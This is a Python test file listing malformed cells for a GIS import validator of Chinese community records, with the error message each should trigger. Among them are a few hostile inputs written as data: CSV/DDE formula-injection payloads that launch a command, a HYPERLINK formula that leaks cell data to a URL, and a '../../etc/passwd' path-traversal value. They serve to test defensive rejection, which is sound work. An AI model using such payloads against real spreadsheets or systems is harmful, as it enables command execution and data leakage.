"""One wrong cell in one row of each kind: that row is rejected with its row and column, the others are loaded."""

from __future__ import annotations

from gis.crs import MetricCRS
from tests.gis.intake.corpus.case import Case, csv, records, row, spoilt
from tests.gis.intake.files import workbook

_FORMULA = "公式.*粘贴为数值"
_NUMBER = "不是数字"
_RANGE = "应在 .* 之间"
_DAY = "没有这一天"
_DATE = "日期无法识别"
_DECIMAL = "小数点请写作"
_DEGREES = "十进制度"
_MISSING = "缺少必填的值|必填|空|missing|为空"

WRONG: list[tuple[str, str, str, str]] = [
    ("households", "code", "", "blank|空|缺"),
    ("households", "code", "N" * 65, "超过 64 个字符"),
    ("households", "code", "N\u200b1", "不可见字符"),
    ("households", "code", "N\x071", "不可见字符"),
    ("households", "code", "5.30102001001001E+17", "末位已丢失"),
    ("households", "code", "N11", "与第 2 行重复"),
    ("households", "code", "合计", "合计行或空值"),
    ("households", "code", "NULL", "合计行或空值"),
    ("households", "code", "../../etc/passwd", "不能有“/”"),
    ("households", "room", "一\x0b室", "控制字符"),
    ("households", "room", "\u202e室一", "控制字符"),
    ("households", "code", "=cmd|' /C calc'!A0", _FORMULA),
    ("households", "code", "=1+1", _FORMULA),
    ("households", "room", "+cmd|' /C calc'!A0", _FORMULA),
    ("households", "room", "-2+3+cmd|' /C calc'!A0", _FORMULA),
    ("households", "room", "@SUM(1+1)*cmd|' /C calc'!A0", _FORMULA),
    ("households", "room", '=HYPERLINK("http://x/?"&A1)', _FORMULA),
    ("households", "room", "室" * 101, "超过 100 个字符"),
    ("households", "room", "一\ufffd室", "乱码"),
    ("households", "building", "B9", "没有这个楼栋.*先导入楼栋"),
    ("households", "building", "=B1", _FORMULA),
    ("households", "colour", "紫", "未知的值.*red 红"),
    ("households", "lon", "一百零二", _NUMBER),
    ("households", "lon", "", "缺|空|blank"),
    ("households", "lat", "", "缺|空|blank"),
    ("households", "lon", "NaN", _NUMBER),
    ("households", "lat", "nan", _NUMBER),
    ("households", "lon", "Inf", _NUMBER),
    ("households", "lat", "-Infinity", _NUMBER),
    ("households", "lon", "1e400", _NUMBER),
    ("households", "lon", "102,005", _DECIMAL),
    ("households", "lon", "102,00512345", _DECIMAL),
    ("households", "lat", "25,0051", _DECIMAL),
    ("households", "lon", "102°00'18\"", _DEGREES),
    ("households", "lon", "102度0分18秒", _DEGREES),
    ("households", "lon", "102 00 18.5", _DEGREES),
    ("households", "lat", "25º0′18″N", _DEGREES),
    ("households", "lon", "102.005E", _NUMBER),
    ("households", "lon", "0x66", _NUMBER),
    ("households", "lon", "500123.4", "像是投影坐标"),
    ("households", "lon", "181", "经度超出范围"),
    ("households", "lon", "-102.005", "经度超出范围"),
    ("households", "lat", "91", "纬度超出范围"),
    ("households", "lat", "-25.005", "纬度超出范围"),
    ("households", "lat", "0", "纬度超出范围"),
    ("households", "lon", "0", "经度超出范围"),
    ("buildings", "code", "", "缺|空|blank"),
    ("buildings", "floors", "-1", _RANGE),
    ("buildings", "floors", "201", _RANGE),
    ("buildings", "floors", "6.5", "不是整数"),
    ("buildings", "floors", "六", _NUMBER),
    ("buildings", "floors", "inf", "不是整数"),
    ("buildings", "floors", "1e99", _RANGE),
    ("buildings", "units", "1001", _RANGE),
    ("buildings", "units", "NaN", "不是整数"),
    ("buildings", "name", "名" * 201, "超过 200 个字符"),
    ("buildings", "name", "=SUM(A1:A9)", _FORMULA),
    ("buildings", "kind", "类" * 51, "超过 50 个字符"),
    ("buildings", "compound", "C" * 65, "超过 64 个字符"),
    ("buildings", "lat", "", "缺|空|blank"),
    ("buildings", "lon", "#REF!", _NUMBER),
    ("compounds", "code", "", "缺|空|blank"),
    ("compounds", "lon", "x", _NUMBER),
    ("compounds", "name", "名" * 201, "超过 200 个字符"),
    ("residents", "household", "", "缺|空|blank"),
    ("residents", "household", "H9", "没有这一户.*先导入户"),
    ("residents", "birth_date", "2030-01-01", "将来"),
    ("residents", "birth_date", "1899-12-31", "早于 1900"),
    ("residents", "birth_date", "1950-02-30", _DAY),
    ("residents", "birth_date", "1950-13-01", _DAY),
    ("residents", "birth_date", "0000-00-00", _DAY),
    ("residents", "birth_date", "18264", _DATE),
    ("residents", "birth_date", "五零年一月", _DATE),
    ("residents", "birth_date", "01/02/1950", _DATE),
    ("residents", "birth_date", "1950-1", _DATE),
    ("residents", "birth_date", "=TODAY()", _DATE),
    ("residents", "birth_date", "", "缺|空|blank"),
    ("residents", "birth_year", "1951", "与出生日期不符"),
    ("residents", "birth_year", "1800", _RANGE),
    ("residents", "birth_year", "2100", _RANGE),
    ("residents", "birth_year", "五零", _NUMBER),
    ("residents", "sex", "X", "未知的值.*male 男"),
    ("residents", "care_flags", "独居;外星人", "未知的关怀标识.*living_alone"),
    ("residents", "care_flags", "是", "未知的关怀标识"),
    ("residents", "phone", "1.54000000E+10", "末位已丢失"),
    ("residents", "phone", "1" * 65, "超过 64 个字符"),
    ("residents", "name", "甲*", "脱敏"),
    ("residents", "phone", "154****0000", "脱敏"),
    ("residents", "id_number", "5399**********0011", "脱敏"),
    ("residents", "id_number", "5.39901195001011E+17", "末位已丢失"),
    ("residents", "name", "名" * 101, "超过 100 个字符"),
    ("residents", "name", "=A1", _FORMULA),
    ("needs", "household", "H9", "没有这一户"),
    ("needs", "service", "月球旅行", "未知的值.*meal"),
    ("needs", "service", "", "缺|空|blank"),
    ("needs", "opened_on", "", "缺|空|blank"),
    ("needs", "opened_on", "2025-02-29", _DAY),
    ("needs", "opened_on", "2099-01-01", "将来"),
    ("needs", "opened_on", "昨天", _DATE),
    ("needs", "closed_on", "2024-12-31", "早于提出日期"),
    ("needs", "closed_on", "2099-01-01", "将来"),
    ("needs", "note", "话" * 2001, "超过 2000 个字符"),
    ("stations", "code", "S11", "与第 2 行重复"),
    ("stations", "name", "", "缺|空|blank"),
    ("stations", "kind", "", "缺|空|blank"),
    ("stations", "services", "", "缺|空|blank"),
    ("stations", "services", "meal@Mo-Fr 25:00-26:99", "时间|hours"),
    ("stations", "services", "meal@随时", "时间|hours"),
    ("stations", "services", "meal@8点到5点", "时间|hours"),
    ("stations", "services", "meal#-4", "看不懂的服务|服务"),
    ("stations", "services", "meal#很多", "看不懂的服务|服务"),
    ("stations", "services", "助餐！！", "服务"),
    ("stations", "services", ";;;", "没有服务"),
    ("stations", "services", "meal;meal", "meal|助餐"),
    ("stations", "capacity", "-1", _RANGE),
    ("stations", "capacity", "四十", _NUMBER),
    ("stations", "lon", "", "缺|空|blank"),
    ("areas", "code", "5301020010", "位"),
    ("areas", "code", "53010200100X", "数字"),
    ("areas", "level", "街道", "级别与编码不符"),
    ("areas", "level", "帝国", "未知的值"),
    ("grids", "code", "530102001001", "15|位"),
    ("grids", "code", "无", "数字|位"),
    ("grids", "code", "530102001001011", "与第 2 行重复"),
    ("renovation", "compound", "C9", "没有这个小区"),
    ("renovation", "state", "快了", "未知的值"),
    ("renovation", "started_on", "2099-01-01", "日期在将来"),
    ("renovation", "finished_on", "2024-12-31", "早于开工日期"),
    ("street_units", "code", "", "缺少值"),
    ("street_units", "geometry", "POLYGON((102 25,102.1 25,102.1 25.1))", "几何无法读取"),
    ("street_units", "geometry", "LINESTRING(102 25,102.1 25)", "需要面"),
    ("merchants", "kind", "", "缺少值"),
    ("merchants", "name", "店" * 201, "超过 200 个字符"),
    ("merchants", "lon", "25.005", "超出范围"),
    ("things", "kind", "", "缺少值"),
    ("things", "lat", "NaN", _NUMBER),
    ("things", "code", "T11", "与第 2 行重复"),
    ("chiefs", "building", "B9", "没有这个楼栋"),
    ("chiefs", "name", "", "缺少值"),
    ("chiefs", "name", "张**", "脱敏"),
    ("chiefs", "phone", "1.54E+10", "末位已丢失"),
    ("chiefs", "valid_from", "", "缺少值"),
    ("chiefs", "valid_to", "2024-12-31", "早于开始日期"),
    ("contacts", "household", "H9", "没有这一户"),
    ("contacts", "organisation", "办" * 201, "超过 200 个字符"),
    ("contacts", "phone", "１５４＊＊＊＊００００", "脱敏"),
    ("contacts", "valid_from", "2025-02-30", _DAY),
    ("streets", "kind", "construction", "尚未建成"),
    ("streets", "kind", "k" * 41, "类别过长"),
    ("streets", "layer", "99", _RANGE),
    ("streets", "code", "W11", "与第 2 行重复"),
    ("backdrop", "kind", "火山", "未知的值"),
    ("backdrop", "kind", "", "缺|空|blank"),
]  # fmt: skip
"""Kind, column, cell, what is said."""

WORKBOOK = {("households", "5.30102001001001E+17"), ("residents", "1950-02-30"), ("stations", "meal@随时"), ("needs", "2024-12-31"), ("buildings", "6.5"), ("areas", "帝国"), ("streets", "construction"), ("compounds", "x"), ("grids", "无"), ("backdrop", "火山")}  # fmt: skip
"""These come in a workbook, too."""


def cases() -> list[Case]:
    found = []
    for i, (kind, column, cell, says) in enumerate(WRONG):
        crs = None if kind in ("residents", "needs") else "EPSG:4326"
        name = f"{column} {i} {cell[:12]!r}"
        rows = spoilt(kind, **{column: cell})
        found.append(Case("cells", name, kind, "坏.csv", csv(rows), says, (3, 2), crs, rf"3:\S*{column}"))
        if (kind, cell) in WORKBOOK:
            found.append(
                Case("cells", name, kind, "坏.xlsx", workbook(*records(rows)), says, (3, 2), crs, rf"3:\S*{column}")
            )
    return [*found, *_people(), *_many()]


def _people() -> list[Case]:
    """ID numbers that cannot be right are kept, and told with their rows; the numbers themselves are never told."""
    good = "539901195001020019"
    wrong_digit, other_birth = good[:-1] + "5", "53990119600102001X"
    told = [
        ("check digit", wrong_digit, r"校验码不对.*第 3 行"),
        ("another birth", _with_check(other_birth[:17]), r"与出生日期不符.*第 3 行"),
        ("an impossible birth", _with_check("53990119509901001"), r"与出生日期不符.*第 3 行"),
    ]
    return [
        Case("people", name, "residents", "人.csv", csv(spoilt("residents", id_number=number)), says, (3, 3), None)
        for name, number, says in told
    ] + [
        Case("people", "the same number twice in a household", "residents", "人.csv", csv([row("residents", n, id_number=_with_check(good[:17]), name=f"乙{n}") for n in (11, 12)]), "与第 2 行重复", (2, 1), None, "3:id_number"),
        Case("people", "another's number against the database", "residents", "人.csv", csv([row("residents", 11, household="H9")] * 2), "没有这一户", (2, 0), None, "2:household"),
    ]  # fmt: skip


def _with_check(digits: str) -> str:
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return digits + "10X98765432"[sum(int(d) * w for d, w in zip(digits, weights, strict=True)) % 11]


def _many() -> list[Case]:
    """Whole files in which the same thing is wrong throughout."""
    numbered = [row("households", n, code=f"U{min(n, 10_000)}") for n in range(974)]
    for n in range(26):
        numbered[900 + n]["code"] = f"U{n * 3}"
    home = [row("households", n) for n in range(10, 40)]
    swapped = [each | {"lon": "25.005", "lat": "102.005"} for each in home]
    zero = [each | {"lon": "0", "lat": "0"} for each in home]
    local = [each | {"lon": "512.3", "lat": "88.1"} for each in home]
    pretending = [each | {"lon": f"{100 + n / 10}", "lat": f"{50 + n / 10}"} for n, each in enumerate(home)]
    metres = [each | {"lon": "449500", "lat": "2766000"} for each in home]
    east, north = MetricCRS("EPSG:4543").to_m(102.005, 25.005)
    projected = {"lon": str(east), "lat": str(north)}
    dates = [row("needs", 11 + n, opened_on="45658") for n in range(5)]
    return [
        Case("many", "26 duplicate numbers in 974 units", "households", "户.csv", csv(numbered), "与第 2 行重复", (974, 948), where="902:code"),
        Case("many", "swapped axes", "households", "户.csv", csv(swapped), "经纬度可能颠倒", (30, 0), where="2:lon"),
        Case("many", "everything at 0, 0", "households", "户.csv", csv(zero), "坐标为 0,0", (30, 0), where="2:lon"),
        Case("many", "local coordinates", "households", "户.csv", csv(local), "像是投影坐标", (30, 0), where="2:lon"),
        Case("many", "local coordinates that pretend to be degrees", "households", "户.csv", csv(pretending), "30 户不在任何网格内.*坐标系", (30, 30)),
        Case("many", "metres declared as degrees", "households", "户.csv", csv(metres), "像是投影坐标.*--crs", (30, 0), where="2:lon"),
        Case("many", "degrees declared as metres", "households", "户.csv", csv(home), "超出范围", (30, 0), "EPSG:4543", "2:l"),
        Case("many", "zone number in the easting", "households", "户.csv", csv([each | {"lon": "34499495.7", "lat": "2766470.2"} for each in home]), "带有带号", (30, 0), "EPSG:4543", "2:lon"),
        Case("many", "east and north swapped", "households", "户.csv", csv([each | {"lon": "2766470.2", "lat": "499495.7", "building": ""} for each in home]), "东、北坐标可能颠倒|不在任何网格", (30, 30), "EPSG:4543"),
        Case("many", "the next zone", "households", "户.csv", csv([each | projected for each in home]), "--crs EPSG:4543", (30, 30), "EPSG:4544"),
        Case("many", "an unknown EPSG code", "households", "户.csv", csv(home), "无法识别坐标系.*GCJ-02", crs="EPSG:99999"),
        Case("many", "no such system", "households", "户.csv", csv(home), "无法识别坐标系", crs="水星"),
        Case("many", "a vertical system", "households", "户.csv", csv(home), "无法识别坐标系", crs="EPSG:5737"),
        Case("many", "an empty system", "households", "户.csv", csv(home), "坐标系", crs=""),
        Case("many", "no system", "households", "户.csv", csv(home), "没有坐标系.*--crs", crs=None),
        Case("many", "no system", "buildings", "楼.xlsx", workbook(*records([row("buildings", 11)])), "没有坐标系.*--crs", crs=None),
        Case("many", "no system", "stations", "站.csv", csv([row("stations", 11)]), "没有坐标系.*--crs", crs=None),
        Case("many", "old datum, shift unknown", "households", "户.csv", csv(home), "转换参数未知", (30, 30), "EPSG:4610"),
        Case("many", "dates that a spreadsheet shows as numbers", "needs", "需.csv", csv(dates), "日期无法识别", (5, 0), None, "2:opened_on"),
        Case("many", "codes that the database has", "households", "户.csv", csv([row("households", n, code=f"H{n}", building="B9") for n in (1, 2)]), "没有这个楼栋", (2, 0), where="2:building"),
        Case("many", "every household of another place", "residents", "人.csv", csv([row("residents", n, household=f"Z{n}") for n in range(40)]), "没有这一户", (40, 0), None, "2:household"),
    ]  # fmt: skip
